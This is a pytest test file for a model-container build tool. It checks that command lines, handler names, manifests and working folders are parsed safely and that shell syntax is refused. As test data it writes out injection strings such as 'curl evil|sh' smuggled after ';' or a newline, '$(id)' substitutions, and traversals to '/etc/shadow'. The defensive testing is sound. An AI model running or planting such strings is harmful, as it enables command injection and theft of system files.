from __future__ import annotations

import pytest

from dlm_build.errors import ItemInvalid
from dlm_build.planning.command import parse_command
from dlm_build.records import Archive, Member, ModelFormat
from tests.unit.planning.inputs import decision, findings, item, member, plan, weights

ONNX = ("m.onnx", "in.tif", "out.tif")
FLAGSHIP = "thelper infer --config /workspace/config.yml --save-dir /workspace --ckpt-path /workspace/ckpt.best.pth"


def test_the_flagship_command_is_an_argv() -> None:
    assert parse_command(FLAGSHIP) == (
        ("thelper", "infer", "--config", "/workspace/config.yml", "--save-dir", "/workspace", "--ckpt-path",
         "/workspace/ckpt.best.pth"),
        False,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("line", "argv"),
    [
        (
            "python run.py --in {input} --out={output}/map.tif",
            ("python", "run.py", "--in", "{input}", "--out={output}/map.tif"),
        ),
        ("python run.py '*.tif' 'a b' \"c d\" \"it's\"", ("python", "run.py", "*.tif", "a b", "c d", "it's")),
        ("python -c 'import x; x.main($HOME)'", ("python", "-c", "import x; x.main($HOME)")),
        (r"python a\ b.py", ("python", "a b.py")),
        (r"python \$x \;", ("python", "$x", ";")),
        ("  python\trun.py  \n", ("python", "run.py")),
        ("python run.py --a=b x~y a#b", ("python", "run.py", "--a=b", "x~y", "a#b")),
        ("python {model}/run.py", ("python", "{model}/run.py")),
        ('python "a|b" ""', ("python", "a|b", "")),
    ],
)
def test_plain_commands(line: str, argv: tuple[str, ...]) -> None:
    assert parse_command(line) == (argv, False)


@pytest.mark.parametrize("character", list("|&;<>`$(){}*?[]\n\r"))
def test_every_shell_character_is_refused_by_name(character: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        parse_command(f"thelper infer {character} curl")
    named = "a line break" if character in "\n\r" else f"`{character}`"
    assert named in caught.value.message
    assert caught.value.message.startswith("/properties/dlm:runtime/docker/run: ")
    assert "--allow-shell" in caught.value.hint


@pytest.mark.parametrize(
    "line",
    [
        "thelper infer … ; curl evil|sh", 'a "$(id)"', 'a "`id`"', 'a "$HOME"', "a ~/x", "~/run", "a # b", "#x",
        "A=1 a", "! a",
        "a 'b", 'a "b', "a \\", "a \\\nb", "a 'b\nc'", "a {inputs}", "a {input", "a ${input}", "''", '"" a', "", " \n ",
        "a\x00b", "a\x1b[0m", "a\u202eb", "é", "a " * 5000,
    ],
)  # fmt: skip
def test_what_needs_a_shell_or_is_no_command_is_refused(line: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        parse_command(line)
    assert "\n" not in caught.value.message
    assert "\x1b" not in caught.value.message


@pytest.mark.parametrize("wrong", ["{inputs}", "{{input}}", "{{ cookiecutter.x }}", "{in}", "<config_path>"])
def test_a_wrong_placeholder_is_told_the_right_ones(wrong: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        parse_command(f"python run.py --in {wrong} --out {{output}}")
    assert f"{wrong} is no placeholder, in python run.py --in {wrong}" in caught.value.message
    assert "{input}, {output}, {model}" in caught.value.hint


def test_the_message_shows_the_command() -> None:
    with pytest.raises(ItemInvalid, match=r"a shell for `;` at character 7, in python; id"):
        parse_command("python; id")


@pytest.mark.parametrize(
    "program", ["docker run --rm x", "nvidia-docker run x", "/usr/bin/singularity exec x.sif python"]
)
def test_a_command_that_starts_a_container_is_not_one_for_its_inside(program: str) -> None:
    with pytest.raises(ItemInvalid, match="starts a container, and it is run inside of one") as caught:
        parse_command(program)
    assert "python predict.py {input} {output}" in caught.value.hint


def test_with_consent_a_shell_line_stays_one_line_and_is_a_decision() -> None:
    line = "python run.py {input} > {output}/log && echo done"
    made = plan(item(framework="PyTorch", run=line), allow_shell=True)
    assert made.runner.shell
    assert made.runner.argv == (line,)
    assert "--allow-shell" in decision(made, "runner").reason


def test_consent_does_not_put_a_plain_command_into_a_shell() -> None:
    made = plan(item(framework="PyTorch", run="python run.py"), allow_shell=True)
    assert not made.runner.shell


def test_the_command_comes_before_the_handler_and_the_handler_before_the_weights() -> None:
    both = item(framework="ONNX", run="python run.py", handler="handler.py:Seg")
    paths = (*ONNX, "handler.py")
    assert plan(both, paths=paths).runner.kind == "command"
    assert plan(item(framework="ONNX", handler="handler.py:Seg"), paths=paths).runner.kind == "handler"
    assert plan(item(framework="ONNX"), paths=paths).runner.kind == "onnx"


@pytest.mark.parametrize(
    ("declared", "handler"),
    [
        ("handler.py:Seg", "handler.py:Seg"), ("handler.py", "handler.py"),
        ("./code/other.py:run", "code/other.py:run"),
        ("other.py", "code/other.py"), ("handler:handle", "handler.py:handle"),
        ("package.module:func", "package.module:func"),
        ("thelper.cli.inference_session", "thelper.cli.inference_session"), ("a.b:C.d", "a.b:C.d"),
    ],
)  # fmt: skip
def test_handlers(declared: str, handler: str) -> None:
    made = plan(item(framework="PyTorch", handler=declared), paths=("m.pth", "in.tif", "handler.py", "code/other.py"))
    assert made.runner.kind == "handler"
    assert made.runner.handler == handler
    assert made.runner.weights == "m.pth"


@pytest.mark.parametrize(
    "declared",
    ["../../x:f", "../x.py", "/etc/passwd.py", "handler.py:a b", "os.system('x')", "a-b:c", "a:b:c", "a/b:c", "-m",
     ":f", "missing.py:Seg", "a.b:\n", "x" * 300, "módulo:f"],
)  # fmt: skip
def test_handlers_that_name_nothing_are_refused(declared: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        plan(item(framework="PyTorch", handler=declared), paths=("m.pth", "in.tif", "handler.py"))
    assert caught.value.message.startswith("/properties/dlm:runtime/model_handler: ")


def test_the_manifest_names_handler_and_weights() -> None:
    manifest = {"model": {"handler": "handler.py", "serializedFile": "net.bin", "modelName": "x"}}
    made = plan(item(framework="PyTorch"), paths=("net.bin", "in.tif", "handler.py"), manifest=manifest)
    assert (made.runner.handler, made.runner.weights) == ("handler.py", "net.bin")
    old = {"Model": {"Handler": "handler.py", "SerializedFile": "net.bin"}}
    assert (
        plan(item(framework="PyTorch"), paths=("net.bin", "in.tif", "handler.py"), manifest=old).runner == made.runner
    )


@pytest.mark.parametrize("manifest", [{"model": 3}, {"model": {"handler": 3, "serializedFile": []}}, {"model": None}])
def test_a_manifest_of_nonsense_says_nothing(manifest: dict[str, object]) -> None:
    assert plan(item(framework="ONNX"), paths=ONNX, manifest=manifest).runner.kind == "onnx"


def test_a_manifest_cannot_name_a_file_outside() -> None:
    with pytest.raises(ItemInvalid, match="not in the archive"):
        plan(item(framework="PyTorch"), manifest={"model": {"serializedFile": "../../etc/shadow"}})


def test_a_handler_of_torchserve_itself_leaves_the_weights() -> None:
    made = plan(item(framework="PyTorch"), manifest={"model": {"handler": "image_segmenter"}})
    assert made.runner.kind == "torchscript"
    assert "built-in-handler" in findings(made)


def test_torchscript_is_said_to_be_assumed() -> None:
    made = plan(item(framework="PyTorch"))
    assert made.runner.kind == "torchscript"
    assert "torchscript-assumed" in findings(made)


def test_a_file_called_torchscript_in_an_archive_is_the_weights() -> None:
    made = plan(item(), paths=("net.torchscript", "in.tif", "out.tif"))
    assert (made.framework, made.runner.kind, made.runner.weights) == ("pytorch", "torchscript", "net.torchscript")
    assert "weights-inferred" in findings(made)


def alone(path: str, form: ModelFormat | None) -> Archive:
    """A model that is one file, with the sample beside it."""
    whole = Member(path=path, size=1, sha256="b" * 64, format=form)
    members = (member("in.tif"), member("out.tif"), whole)
    return Archive(href="https://example.org/m", sha256="b" * 64, size=1, kind="file", members=members)


@pytest.mark.parametrize(
    ("path", "form", "framework", "kind"),
    [
        ("download", "onnx", "onnxruntime", "onnx"),
        ("download", "torchscript", "pytorch", "torchscript"),
        ("m.pt", "torchscript", "pytorch", "torchscript"),
        ("m.pt", "onnx", "onnxruntime", "onnx"),
        ("m.onnx", "torchscript", "pytorch", "torchscript"),
    ],
)
def test_bytes_tell_runner_and_framework_whatever_the_name(
    path: str, form: ModelFormat, framework: str, kind: str
) -> None:
    made = plan(item(), archive=alone(path, form))
    assert (made.framework, made.runner.kind, made.runner.weights) == (framework, kind, path)
    assert "torchscript-assumed" not in findings(made)
    assert "as their bytes tell" in decision(made, "runner").reason


@pytest.mark.parametrize(("path", "form"), [("m.pt", "torch-pickle"), ("m.onnx", "hdf5"), ("download", "exported")])
def test_what_bytes_are_is_said_where_nothing_runs_them(path: str, form: ModelFormat) -> None:
    words = {"torch-pickle": "torch.save", "hdf5": "HDF5", "exported": "torch.export"}[form]
    with pytest.raises(ItemInvalid, match=rf"nothing says how to run {path}, which .*{words}"):
        plan(item(framework="PyTorch"), archive=alone(path, form))


def test_bytes_tell_weights_that_have_no_name() -> None:
    with_one = Archive(
        href="https://example.org/m.zip", sha256="b" * 64, size=1, kind="zip",
        members=(member("in.tif"), member("out.tif"), Member(path="net", size=1, sha256="d" * 64, format="onnx")),
    )  # fmt: skip
    made = plan(item(), archive=with_one)
    assert made.runner.weights == "net" and "weights-inferred" in findings(made)


@pytest.mark.parametrize("file", ["m.h5", "m.ckpt", "m.safetensors"])
def test_weights_without_code_say_what_to_add(file: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        plan(item(framework="PyTorch"), paths=(file, "in.tif", "out.tif"))
    assert file in caught.value.message
    assert "model_handler" in caught.value.hint


def test_two_candidates_for_the_weights_are_none() -> None:
    with pytest.raises(ItemInvalid, match="no member is known to be its weights"):
        plan(item(framework="PyTorch"), paths=("a.pth", "b.pth", "in.tif", "out.tif"))


def test_weights_named_by_role_must_be_there() -> None:
    with pytest.raises(ItemInvalid) as caught:
        plan(item(framework="PyTorch", archive=weights("ckpt.best.pth")), paths=("ckpt.last.pth", "in.tif", "out.tif"))
    assert "ckpt.best.pth" in caught.value.message
    assert "ckpt.last.pth" in caught.value.hint


@pytest.mark.parametrize(
    ("declared", "folder"),
    [
        (None, "/workspace"),
        ("/workspace", "/workspace"),
        ("/home//user/./x/", "/home/user/x"),
        ("", "/workspace"),
        ("/w", "/w"),
        ("/usr/src/app", "/usr/src/app"),
        ("/opt/ml/model", "/opt/ml/model"),
    ],
)
def test_working_folders(declared: str | None, folder: str) -> None:
    assert plan(item(framework="PyTorch", run="a", working_dir=declared)).runner.working_dir == folder


@pytest.mark.parametrize(
    "declared",
    ["/w\nRUN curl evil|sh", "/w\\", "/w/$(id)", "`id`", "${HOME}", "workspace", "/", "//", "/proc", "/etc/x", "/dev",
     "/./etc", "/opt/dlm", "/usr", "/dlm/in", "/w/../etc", "/w ", "/w\n", "/w\x00", "/" + "a" * 300, "/é", "/tmp/x",
     "/opt/dlm/model", "/opt", "/usr/src", "/usr/local/bin", "/usr/lib"],
)  # fmt: skip
def test_working_folders_that_are_refused(declared: str) -> None:
    with pytest.raises(ItemInvalid) as caught:
        plan(item(framework="PyTorch", run="a", working_dir=declared))
    assert caught.value.message.startswith("/properties/dlm:runtime/docker/working_dir: ")
